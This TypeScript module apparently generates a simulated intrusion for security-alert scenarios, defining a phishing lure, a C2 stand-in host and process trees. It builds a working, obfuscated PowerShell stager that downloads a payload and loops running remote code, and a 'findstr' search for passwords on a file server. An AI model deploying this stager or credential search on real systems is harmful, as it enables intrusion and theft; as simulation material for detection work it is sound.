/** The story's machines, processes and moments, shared by its chapters and by the alerts that notice them. */
import { gzipSync } from "fflate";
import { secondUs } from "../calendar.js";
import type { Context } from "../context.js";
import { image, imageAt } from "../endpoint/image.js";
import type { Image } from "../endpoint/image.js";
import { machineOn, pidsOf, sessionOn } from "../endpoint/machine.js";
import type { Machine, Session } from "../endpoint/machine.js";
import { localSystem, principalOf, systemLogonId } from "../endpoint/process.js";
import type { Process } from "../endpoint/process.js";
import { addressOf } from "../world/host.js";
import type { Host } from "../world/host.js";
import { cast } from "../world/person.js";
import type { Person } from "../world/person.js";
import { sites, storyIps } from "../world/site.js";
import { workdayOf } from "../world/workday.js";
import { threats } from "./threat.js";

/** What the thief's browser calls itself: nobody else in the company uses it. */
export const thiefUserAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
export const thiefDevice = {
  os: "Linux",
  browser: "Firefox 115.0",
  userAgent: thiefUserAgent,
  client: "Browser",
  isManaged: false,
};
export const thiefSessionId = "00a1b2c3-7d5e-4f60-8a9b-1c2d3e4f5a6b";

export const phish = {
  domain: "contoso-payroll.example",
  sender: "hr-notices@contoso-payroll.example",
  display: "Contoso Payroll",
  subject: "Payroll adjustment: action needed before Friday",
  url: "https://contoso-payroll.example/adjust/verify?id=q3",
} as const;

export const c2 = {
  domain: "cdn-telemetry.example",
  ip: storyIps.c2,
  url: "https://cdn-telemetry.example/assets/wu-sync.bin",
} as const;

/** SHA-256 of the second stage, as written into the script and into the threat intelligence. */
export const payloadSha256 = threats.payload.value;

export const document = { name: "Q3-adjustments.xlsm", folder: "C:\\Users\\marc.oliver\\Downloads\\" } as const;

const utf16Base64 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");

/** The inner script: gzip in Base64, with the URL, the address and the hash that belong together. */
function innerScript(): string {
  return [
    `$u='${c2.url}';$h='${c2.ip}';$s='${payloadSha256}'`,
    "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Microsoft-Delivery-Optimization/10.0')",
    "$b=$w.DownloadData($u);$d=[BitConverter]::ToString([Security.Cryptography.SHA256]::Create().ComputeHash($b)).Replace('-','').ToLower()",
    'if($d -eq $s){while(1){try{$r=$w.DownloadString("https://$h/assets/ping?v=2");if($r.Length -gt 1184){iex $r.Substring(1184)}}catch{};Start-Sleep -Milliseconds (54000..66000|Get-Random)}}',
  ].join("\r\n");
}

function gzipBase64(text: string): string {
  const bytes = gzipSync(Buffer.from(text, "utf8"), { mtime: 0, level: 9 });
  // RFC 1952: byte 9 names the operating system; 255 is "unknown", the same on every machine.
  bytes[9] = 255;
  return Buffer.from(bytes).toString("base64");
}

/** The two scripts of the command line: UTF-16 Base64 around gzip Base64. Always the same. */
export function encodedScripts(): { readonly outer: string; readonly inner: string } {
  const inner = innerScript();
  const outer =
    `$z=[Convert]::FromBase64String('${gzipBase64(inner)}');` +
    "$g=New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,$z)),[IO.Compression.CompressionMode]::Decompress);" +
    "iex (New-Object IO.StreamReader($g)).ReadToEnd()";
  return { inner, outer: utf16Base64(outer) };
}

/** When WKS-0042 was awake while the beacon lived on it: [day, from, to). */
export const awake = [
  [-4, "08:30", "19:40"],
  [-3, "01:50", "09:10"],
  [-2, "04:40", "10:00"],
  [-2, "22:20", "24:00"],
  [-1, "00:00", "05:38"],
] as const;

export interface Players {
  readonly dana: Person;
  readonly marc: Person;
  readonly desk: Host;
  readonly fileServer: Host;
  readonly deskSession: Session;
  readonly excel: Process;
  readonly stage1: Process;
  /** The beacon: everything on WKS-0042 afterwards is its child. */
  readonly stage2: Process;
  readonly service: Process;
  readonly serviceShell: Process;
  readonly fileServerMachine: Machine;
  /** Address of WKS-0042 on a day. */
  readonly deskIp: (day: number) => string;
  readonly fileServerIp: string;
}

/** Processes of the story take ids from the end of a day's range, where ordinary ones never come. */
function storyPids(machine: Machine, day: number): () => number {
  const next = pidsOf(machine, day);
  const skip = machine.host.kind === "server" ? 5800 : 620;
  const offset = next() + 4 * skip;
  let k = 0;
  return () => offset + 4 * k++;
}

const memo = new WeakMap<Context, Players>();

export function playersOf(ctx: Context): Players {
  let players = memo.get(ctx);
  if (players === undefined) memo.set(ctx, (players = makePlayers(ctx)));
  return players;
}

function makePlayers(ctx: Context): Players {
  const { world, calendar } = ctx;
  const [dana, marc] = [world.person(cast.dana), world.person(cast.marc)];
  const [desk, fileServer] = [world.workstation(cast.marc), world.server("FS01")];
  const deskSession = sessionOn(ctx, desk, workdayOf(ctx, marc, -4)!);
  const pid = storyPids(machineOn(ctx, desk, -4), -4);
  const of = {
    host: desk,
    principal: principalOf(marc),
    integrity: "Medium",
    logonId: deskSession.logon.logonId,
  } as const;
  const excelImage = image("excel");
  const excel: Process = {
    ...of,
    pid: pid(),
    startUs: calendar.at(-4, "14:05:12.4"),
    image: excelImage,
    commandLine: `"${excelImage.path}" "${document.folder}${document.name}"`,
    parent: deskSession.explorer,
  };
  const powershell = image("powershell");
  const scripts = encodedScripts();
  const stage1: Process = {
    ...of,
    pid: pid(),
    startUs: calendar.at(-4, "14:05:41.9"),
    image: powershell,
    commandLine: `powershell.exe -nop -w hidden -enc ${scripts.outer}`,
    parent: excel,
  };
  const stage2: Process = {
    ...of,
    pid: pid(),
    startUs: calendar.at(-4, "14:06:58.2"),
    image: powershell,
    commandLine: `"${powershell.path}" -NoProfile -WindowStyle Hidden -Command "& { $env:WU = 1; iex $env:WUS }"`,
    parent: stage1,
  };
  const serverMachine = machineOn(ctx, fileServer, -3);
  const serverPid = storyPids(serverMachine, -3);
  const system = { host: fileServer, principal: localSystem, integrity: "System", logonId: systemLogonId } as const;
  const service: Process = {
    ...system,
    pid: serverPid(),
    startUs: calendar.at(-3, "03:08:20.6"),
    image: serviceImage(),
    commandLine: `${serviceImage().path} -k netsvcs`,
    parent: serverMachine.system.services,
  };
  const serviceShell: Process = {
    ...system,
    pid: serverPid(),
    startUs: calendar.at(-3, "03:11:02.1"),
    image: image("cmd"),
    commandLine: "cmd.exe /c findstr /si /c:password D:\\ops\\*.ps1",
    parent: service,
  };
  return {
    dana,
    marc,
    desk,
    fileServer,
    deskSession,
    excel,
    stage1,
    stage2,
    service,
    serviceShell,
    fileServerMachine: serverMachine,
    deskIp: day => addressOf(desk, day),
    fileServerIp: fileServer.fixedIp!,
  };
}

export function serviceImage(): Image {
  return imageAt("C:\\ProgramData\\WinUpd\\winupdsvc.exe");
}

/** A child of a story process, with an id of its own. */
export function childOf(
  ctx: Context,
  parent: Process,
  what: {
    readonly day: number;
    readonly time: string;
    readonly image: Image;
    readonly commandLine: string;
    readonly integrity?: Process["integrity"];
    readonly slot: number;
  },
): Process {
  const machine = machineOn(ctx, parent.host, what.day);
  const pid = storyPids(machine, what.day)() + 4 * (10 + what.slot);
  const { host, principal, logonId } = parent;
  return {
    host,
    principal,
    logonId,
    pid,
    startUs: ctx.calendar.at(what.day, what.time),
    image: what.image,
    commandLine: what.commandLine,
    parent,
    integrity: what.integrity ?? parent.integrity,
  };
}

/** All contacts of the beacon, in order: every 60 s ± 10 % while the machine is awake. */
export function beaconTimes(ctx: Context): readonly number[] {
  const times: number[] = [];
  const first = ctx.calendar.at(-4, "14:07:00");
  for (const [day, from, to] of awake) {
    const d = ctx.draw("beacon", day, Number(from.slice(0, 2)));
    const endUs = ctx.calendar.at(day, to);
    let atUs = Math.max(first, ctx.calendar.at(day, from) + 35 * secondUs);
    while (atUs < endUs) {
      times.push(Math.floor(atUs));
      atUs += (54 + d.real() * 12) * secondUs;
    }
  }
  return times;
}

/** The WKS-0042 agent's silence, and the São Paulo proxy's. */
export function gapsOf(ctx: Pick<Context, "calendar">): {
  readonly desk: readonly [number, number];
  readonly proxy: readonly [number, number];
} {
  const { at } = ctx.calendar;
  return { desk: [at(-3, "04:00"), at(-3, "07:30")], proxy: [at(-5, "00:00"), at(-4, "00:00")] };
}

export const dublin = sites.DUB;
